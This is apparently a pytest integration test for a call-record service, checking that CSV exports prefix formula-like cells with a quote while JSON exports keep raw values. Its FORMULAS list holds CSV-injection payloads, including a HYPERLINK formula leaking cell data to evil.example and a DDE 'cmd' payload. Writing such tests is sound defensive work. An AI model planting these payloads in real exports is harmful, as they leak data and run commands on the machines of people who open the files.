"""CSV injection: cells a spreadsheet would run as a formula come out neutralised in every CSV export
(the page's and the API's, checked on the downloaded bytes); JSON answers keep the values as stored."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from bad_input_testkit import Site, api_cdr

pytestmark = pytest.mark.integration

#: what a spreadsheet would evaluate: each starts one caller's name, number and account code
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=2"]
#: look like formulas but are plain signed numbers: kept as they are (a phone number stays dialable)
PLAIN = ["+14155550100", "-1"]
TEXT_FIELDS = ("caller_id_name", "caller_id_number", "accountcode")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")


@pytest.fixture(scope="module")
def switch_id(site: Site) -> str:
    switch_id, _ = site.new_switch("csvinj")
    records = [api_cdr(**dict.fromkeys(TEXT_FIELDS, value)) for value in FORMULAS + PLAIN]
    reply = site.api("POST", "/api/v1/cdrs", {"switch_id": switch_id, "cdrs": records})
    assert (reply.status, reply.json()["accepted"]) == (200, len(records)), reply.text
    return switch_id


def query(switch_id: str, fmt: str) -> str:
    return f"format={fmt}&switch={switch_id}&from=2000-01-01T00:00:00Z"


def assert_neutralised(data: bytes) -> None:
    assert data.startswith(b"id,switch_id,"), data[:200]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == len(FORMULAS + PLAIN)
    for field in TEXT_FIELDS:
        assert sorted(row[field] for row in rows) == sorted(["'" + v for v in FORMULAS] + PLAIN), field
    for row in rows:  # and no other cell of any column starts a formula either
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START) or SIGNED_NUMBER.fullmatch(cell), (column, cell)


def assert_raw(cdrs: list[dict[str, Any]]) -> None:
    for field in TEXT_FIELDS:
        assert sorted(c[field] for c in cdrs) == sorted(FORMULAS + PLAIN), field


def test_api_csv_export_neutralises_formulas(site: Site, switch_id: str) -> None:
    reply = site.api("GET", f"/api/v1/cdrs/export?{query(switch_id, 'csv')}")
    assert reply.status == 200, reply.text
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert_neutralised(reply.body)


def test_page_csv_export_neutralises_formulas(site: Site, switch_id: str) -> None:
    browser = site.browser()
    url = f"http://127.0.0.1:{site.gateway_port}/cdrs/export?{query(switch_id, 'csv')}"
    with browser.open(url, timeout=15) as download:
        assert download.headers["Content-Disposition"].startswith('attachment; filename="cdrs-')
        assert_neutralised(download.read())


def test_json_answers_and_json_lines_exports_keep_the_values_as_stored(site: Site, switch_id: str) -> None:
    assert_raw(site.cdrs(switch_id))
    api_lines = site.api("GET", f"/api/v1/cdrs/export?{query(switch_id, 'jsonl')}").body
    assert_raw([json.loads(line) for line in api_lines.splitlines()])
    url = f"http://127.0.0.1:{site.gateway_port}/cdrs/export?{query(switch_id, 'jsonl')}"
    with site.browser().open(url, timeout=15) as download:
        assert_raw([json.loads(line) for line in download.read().splitlines()])
